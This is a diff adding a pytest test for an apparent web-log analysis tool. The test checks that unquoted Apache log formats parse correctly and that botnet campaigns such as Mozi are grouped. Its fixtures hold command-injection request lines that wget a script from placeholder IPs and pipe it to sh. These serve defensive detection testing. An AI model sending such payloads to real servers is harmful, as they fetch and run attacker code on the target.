@@ -14,6 +14,7 @@ import socket
 import time
 
 import pandas as pd
+import pytest
 from typer.testing import CliRunner
 
 from apache import Apache
@@ -102,3 +103,32 @@ def test_report_reads_apaches_own_directives(tmp_path):
     campaigns = {c["name"] or c["pattern"]: c["requests"] for c in report["campaigns"]}
     assert campaigns["Mozi"] == 3
     assert campaigns["GET /dl?cd+/var;wget+http://<ip>:<port>/x.sh HTTP/1.0"] == 2
+
+
+#: Unquoted text fields, as LogFormat lines often have them: between tabs, between "|", and a
+#: request line between spaces.  Apache writes their spaces and "|" as they are.
+UNQUOTED_FORMATS = ["%h\t%t\t%r\t%>s\t%{User-Agent}i\t%D", "%h|%r|%>s|%{User-Agent}i", "%h %t %r %>s %b %D"]
+PIPED = [b"GET /cgi-bin/;wget+http://%s:%d/b+-O-|sh HTTP/1.0" % (ip, port)
+         for ip, port in ((b"198.51.100.3", 81), (b"203.0.113.8", 5555))]
+
+
+@pytest.mark.parametrize("log_format", UNQUOTED_FORMATS, ids=["tabs", "pipes", "spaces"])
+def test_report_reads_unquoted_fields_apache_writes(tmp_path, log_format):
+    sent = HOSTILE + MOZI + LOADER + PIPED
+    with Apache(log_format, protocol_options="Unsafe") as apache:
+        lines = _send_each(apache, sent, b"User-Agent: Mozilla/5.0 (X11; Linux x86_64) x \"y\" \\z\r\n")
+    assert len(lines) == len(sent)
+    log = tmp_path / "apache.log"
+    log.write_text("\n".join(lines) + "\n")
+    result = CliRunner().invoke(app, ["report", "--json", "--format", log_format, str(log)])
+    assert result.exit_code == 0, result.stderr
+    report = json.loads(result.stdout)
+    assert report["summary"]["parsed"] == len(sent) and report["summary"]["malformed"] == 0
+    df, _ = read_dataframe([str(log)], log_format)
+    assert sorted(df["request"]) == sorted(r.decode("latin-1") for r in sent)
+    if "header:user-agent" in df:
+        assert list(df["header:user-agent"].dropna().unique()) == ['Mozilla/5.0 (X11; Linux x86_64) x "y" \\z']
+    campaigns = {c["name"] or c["pattern"]: c["requests"] for c in report["campaigns"]}
+    assert campaigns["Mozi"] == 3
+    assert campaigns["GET /dl?cd+/var;wget+http://<ip>:<port>/x.sh HTTP/1.0"] == 2
+    assert campaigns["GET /cgi-bin/;wget+http://<ip>:<port>/b+-O-|sh HTTP/1.0"] == 2
